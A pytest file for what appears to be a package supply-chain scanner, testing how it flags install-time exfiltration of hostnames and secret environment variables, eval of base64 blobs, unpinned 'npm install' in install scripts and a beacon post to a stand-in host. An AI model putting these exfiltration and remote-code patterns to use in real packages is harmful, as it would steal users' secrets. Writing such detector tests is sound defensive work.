"""The judge: timing from entry files, threat correlation, policy, verdict and scores."""

from __future__ import annotations

import datetime as dt

from depshield.alerts.judge import judge
from depshield.analyzers.base import (
    SIGNAL_DECODE,
    SIGNAL_EXEC,
    SIGNAL_SINK,
    SIGNAL_SOURCE,
    SIGNAL_SPAWN,
)
from depshield.ecosystems.base import ManifestAnalysis
from depshield.model import FileAnalysis, Finding, PackageRef
from depshield.policy import Ignore, Policy

REF = PackageRef("npm", "demo", "1.0.0")


def source(file: str, line: int, kind: str, top: bool = True) -> Finding:
    return Finding(SIGNAL_SOURCE, file, line, f"read {kind}", {"kind": kind}, top_level=top)


def sink(file: str, line: int, kind: str = "network", top: bool = True) -> Finding:
    return Finding(SIGNAL_SINK, file, line, "https.request(...)", {"kind": kind}, top_level=top)


def js(path: str, *findings: Finding, imports: tuple[str, ...] = ()) -> FileAnalysis:
    return FileAnalysis(path, "javascript", tuple(findings), imports, lines_of_code=40)


def run(manifest: ManifestAnalysis, *files: FileAnalysis, policy: Policy | None = None):
    paths = [f.path for f in files] + ["package.json"]
    return judge(REF, manifest, files, paths, [], policy=policy or Policy())


def types(result) -> dict[str, tuple[str | None, int | None, str]]:
    return {a.type: (a.file, a.line, a.action) for a in result.alerts}


def test_install_time_exfiltration_across_required_files_blocks() -> None:
    manifest = ManifestAnalysis("demo", "1.0.0", install_entries=("install.js",))
    result = run(
        manifest,
        js("install.js", source("install.js", 3, "hostname"), imports=("./lib/send",)),
        js("lib/send.js", sink("lib/send.js", 7, top=False)),
    )
    assert types(result)["dataExfiltration"] == ("lib/send.js", 7, "error")
    alert = next(a for a in result.alerts if a.type == "dataExfiltration")
    assert alert.props["when"] == "install" and alert.props["source"] == ["hostname"]
    assert result.verdict == "block"
    assert result.scores.supplyChain <= 30


def test_hostname_and_network_in_a_called_function_is_not_exfiltration() -> None:
    manifest = ManifestAnalysis("demo", "1.0.0", import_entries=("index.js",))
    result = run(
        manifest,
        js(
            "index.js", source("index.js", 3, "hostname", top=False), sink("index.js", 9, top=False)
        ),
    )
    assert "dataExfiltration" not in types(result)
    assert result.verdict == "pass"


def test_whole_environment_sent_from_a_called_function_warns() -> None:
    manifest = ManifestAnalysis("demo", "1.0.0", import_entries=("index.js",))
    result = run(
        manifest,
        js("index.js", source("index.js", 3, "env-all", top=False), sink("index.js", 9, top=False)),
    )
    alert = next(a for a in result.alerts if a.type == "dataExfiltration")
    assert (alert.severity, alert.action, alert.props["when"]) == ("high", "warn", "call")
    assert result.verdict == "warn"


def test_import_time_needs_a_strong_source() -> None:
    manifest = ManifestAnalysis("demo", "1.0.0", import_entries=("index.js",))
    weak = run(manifest, js("index.js", source("index.js", 1, "hostname"), sink("index.js", 2)))
    strong = run(manifest, js("index.js", source("index.js", 1, "secret-env"), sink("index.js", 2)))
    assert "dataExfiltration" not in types(weak)
    assert types(strong)["dataExfiltration"] == ("index.js", 2, "error")


def test_decoded_blob_executed_needs_an_encoded_literal() -> None:
    decode = Finding(SIGNAL_DECODE, "a.js", 2, "Buffer.from(x, 'base64')", {"how": "base64"})
    execute = Finding(SIGNAL_EXEC, "a.js", 3, "eval(s)", {"how": "eval"})
    blob = Finding("highEntropyStrings", "a.js", 1, "'aGVsbG8...'", {"entropy": 5.9})
    manifest = ManifestAnalysis("demo", "1.0.0", import_entries=("a.js",))
    assert "encodedPayloadExecution" not in types(run(manifest, js("a.js", decode, execute)))
    found = types(run(manifest, js("a.js", blob, decode, execute)))
    assert found["encodedPayloadExecution"][:2] == ("a.js", 3)


def test_policy_action_override_and_ignore_with_reason() -> None:
    manifest = ManifestAnalysis(
        "demo",
        "1.0.0",
        findings=(
            Finding("installScripts", "package.json", 5, "node install.js"),
            # the shell analyzer's reading of the script: it runs a file the package lacks
            Finding(
                SIGNAL_SPAWN,
                "package.json",
                5,
                "node install.js",
                {"command": "node", "args": "install.js"},
            ),
        ),
    )
    files = js("index.js")
    assert run(manifest, files).verdict == "warn"
    relaxed = Policy(actions={"installScripts": "monitor"})
    assert run(manifest, files, policy=relaxed).verdict == "pass"
    ignored = Policy(ignores=(Ignore("demo@1.0.0", "reviewed the build step"),))
    result = run(manifest, files, policy=ignored)
    assert "installScripts" not in types(result)
    assert any("reviewed the build step" in n for n in result.notes)


def test_expired_ignore_no_longer_applies_and_is_reported() -> None:
    manifest = ManifestAnalysis(
        "demo",
        "1.0.0",
        findings=(Finding("installScripts", "package.json", 5, "node install.js"),),
    )
    stale = Ignore("npm:demo@1.0.0", "temporary", expires=dt.date(2020, 1, 1))
    result = run(manifest, js("index.js"), policy=Policy(ignores=(stale,)))
    assert "installScripts" in types(result)
    assert any("expired" in n for n in result.notes)


def test_unresolved_relative_require_and_trivial_package() -> None:
    manifest = ManifestAnalysis("demo", "1.0.0", import_entries=("index.js",))
    tiny = FileAnalysis("index.js", "javascript", (), ("./missing", "./build/Release/x.node"), 3)
    found = types(run(manifest, tiny))
    assert found["unresolvedRequire"][0] == "index.js"
    assert "trivialPackage" in found
    ok = types(run(manifest, js("index.js", imports=("./lib",)), js("lib/index.js")))
    assert "unresolvedRequire" not in ok and "trivialPackage" not in ok


def _install_ctx(*findings: Finding):
    manifest = ManifestAnalysis("demo", "1.0.0", install_entries=("install.js",))
    return run(manifest, js("install.js", *findings))


def test_install_script_installing_unpinned_packages_is_remote_code() -> None:
    spawn = Finding(
        SIGNAL_SPAWN,
        "install.js",
        4,
        "npm install sync-request",
        {"command": "npm", "args": "install sync-request"},
        top_level=True,
    )
    assert types(_install_ctx(spawn))["remoteCodeDownload"] == ("install.js", 4, "error")
    computed = Finding(
        SIGNAL_SPAWN,
        "install.js",
        4,
        "npm install ...",
        {"command": "npm", "args": "install --no-audit $EXPR@$EXPR"},
    )
    local = Finding(
        SIGNAL_SPAWN, "install.js", 5, "pip install .", {"command": "pip", "args": "install ."}
    )
    assert "remoteCodeDownload" not in types(_install_ctx(computed, local))


def test_install_time_request_to_a_fixed_host_is_a_beacon() -> None:
    fixed = Finding(
        SIGNAL_SINK,
        "install.js",
        9,
        "got.post('https://collect.example.invalid/c', options)",
        {"kind": "network"},
    )
    result = _install_ctx(fixed)
    alert = next(a for a in result.alerts if a.type == "dataExfiltration")
    assert (alert.file, alert.line, alert.props["source"]) == ("install.js", 9, ["install-beacon"])
    computed = Finding(
        SIGNAL_SINK, "install.js", 9, "https.get(url, (res) => {", {"kind": "network"}
    )
    assert "dataExfiltration" not in types(_install_ctx(computed))


def test_an_uncatalogued_alert_type_fails_loudly_instead_of_vanishing() -> None:
    import pytest

    from depshield.alerts.catalog import UnknownAlertType

    manifest = ManifestAnalysis("demo", "1.0.0", import_entries=("index.js",))
    stray = Finding("notInTheCatalog", "index.js", 4, "x()", {})
    with pytest.raises(UnknownAlertType, match="notInTheCatalog"):
        run(manifest, js("index.js", stray))
